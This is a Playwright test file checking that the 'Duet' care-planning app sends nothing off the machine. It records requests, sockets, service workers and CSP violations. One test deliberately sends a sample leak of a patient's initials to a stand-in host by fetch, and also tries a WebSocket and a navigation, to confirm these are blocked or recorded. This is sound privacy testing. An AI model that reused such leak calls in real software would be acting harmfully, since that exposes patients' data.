import type { BrowserContext, Page } from '@playwright/test';
import { STEP_IDS } from '../../src/shared/steps';
import { expect, test } from './harness';
import { startSessionFromHome } from './helpers/new-session';
import { APP_ORIGIN } from './harness/serve-renderer';

/**
 * Duet promises that nothing leaves the machine. These tests record everything a whole session asks the network
 * for, on every page of the context (the print page too): requests, WebSockets, service workers, and the
 * requests the page's Content-Security-Policy refused before they were made. The app stands at http://app.test/,
 * the harness's stand-in for file://; anything else is a leak.
 */
interface CspViolation {
  blockedURI: string;
  directive: string;
}

interface NetworkRecord {
  requests: string[];
  websockets: string[];
  serviceWorkers: string[];
  cspViolations: CspViolation[];
}

const CSP_BINDING = '__duetTestCspViolation';

async function recordNetwork(context: BrowserContext): Promise<NetworkRecord> {
  const record: NetworkRecord = { requests: [], websockets: [], serviceWorkers: [], cspViolations: [] };
  context.on('request', (request) => record.requests.push(request.url()));
  context.on('serviceworker', (worker) => record.serviceWorkers.push(worker.url()));
  const watchSockets = (page: Page) => page.on('websocket', (socket) => record.websockets.push(socket.url()));
  context.pages().forEach(watchSockets);
  context.on('page', watchSockets);
  // A request the CSP refuses never reaches the network, so the page reports it itself.
  await context.exposeFunction(CSP_BINDING, (violation: CspViolation) => record.cspViolations.push(violation));
  await context.addInitScript((binding) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as Record<string, (violation: CspViolation) => void>)[binding];
      report?.({ blockedURI: event.blockedURI, directive: event.effectiveDirective });
    });
  }, CSP_BINDING);
  return record;
}

const isAppUrl = (url: string) => url.startsWith(`${APP_ORIGIN}/`);

test('a whole session, from Home to a saved PDF, asks for nothing beyond the app itself', async ({ duet, context }) => {
  const record = await recordNetwork(context);
  const { page } = duet;

  await duet.goto('#/');
  await expect(page.getByRole('heading', { level: 1, name: 'Duet: deciding on care together' })).toBeVisible();
  await startSessionFromHome(page);

  for (const [index, id] of STEP_IDS.entries()) {
    await expect(page.getByRole('heading', { level: 1 })).toContainText(`Step ${index + 1} of ${STEP_IDS.length}`);
    if (id === 'plan') {
      await page.getByRole('radio', { name: 'Therapy and medicine together' }).check();
      await page.getByRole('checkbox', { name: 'Patient agrees with this plan' }).check();
      await page.getByRole('checkbox', { name: 'Clinician agrees with this plan' }).check();
    } else {
      await page.getByRole('button', { name: /^Next/ }).click();
    }
  }
  await expect(page.getByText(/^✓?\s*Plan agreed on /)).toBeVisible();

  await page.getByRole('link', { name: 'Print preview' }).click();
  await expect(page.getByRole('heading', { name: 'My care plan' })).toBeVisible();
  await page.getByRole('button', { name: 'Save as PDF…' }).click();
  await expect(page.getByRole('status').filter({ hasText: /^Saved to / })).toBeVisible();
  expect(duet.savedPdfs).toHaveLength(1);

  // The recorder saw the session happen: the page, its script and its styles were all requested.
  expect(record.requests.filter((url) => url.endsWith('/index.html') || url.includes('/index.html#')).length).toBeGreaterThan(0);
  expect(record.requests.some((url) => url.endsWith('.js'))).toBe(true);
  expect(record.requests.filter((url) => !isAppUrl(url))).toEqual([]);
  expect(record.websockets).toEqual([]);
  expect(record.serviceWorkers).toEqual([]);
  expect(context.serviceWorkers()).toEqual([]);
  // Nothing on Duet's own pages trips the CSP (zod's eval probe is switched off in zod-config.ts).
  expect(record.cspViolations).toEqual([]);
});

test('the recorder sees a request leave and the page policy refuse it', async ({ duet, context }) => {
  const record = await recordNetwork(context);
  const { page } = duet;
  await duet.goto('#/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  // fetch and WebSocket: refused by the page's CSP (connect-src 'none') before any request is made.
  const fetched = await page.evaluate(async () => {
    try {
      await fetch('http://example.invalid/leak?patient=J.D.');
      return 'sent';
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  });
  expect(fetched).toBe('refused: TypeError');
  await page.evaluate(() => {
    try {
      new WebSocket('ws://example.invalid/socket');
    } catch {
      // Some engines throw on a CSP-blocked socket; either way it must be recorded below.
    }
  });
  await expect
    .poll(() => record.cspViolations.map((violation) => violation.blockedURI))
    .toEqual(expect.arrayContaining([expect.stringContaining('http://example.invalid'), expect.stringContaining('ws://example.invalid')]));
  const refusedLeaks = record.cspViolations.filter((violation) => violation.blockedURI.includes('example.invalid'));
  expect(refusedLeaks.map((violation) => violation.directive)).toEqual(['connect-src', 'connect-src']);

  // A top-level navigation is outside connect-src: it becomes a real request, which the recorder must see
  // (and the harness refuses, as main's onBeforeRequest does in Electron).
  await page.evaluate(() => location.assign('http://example.invalid/away'));
  await expect.poll(() => record.requests.filter((url) => !isAppUrl(url))).toContain('http://example.invalid/away');

  // A page without Duet's CSP opening a socket: the WebSocket recorder works too.
  const blank = await context.newPage();
  await blank.evaluate(() => {
    new WebSocket('ws://127.0.0.1:9/');
  });
  await expect.poll(() => record.websockets).toContain('ws://127.0.0.1:9/');
  await blank.close();
});
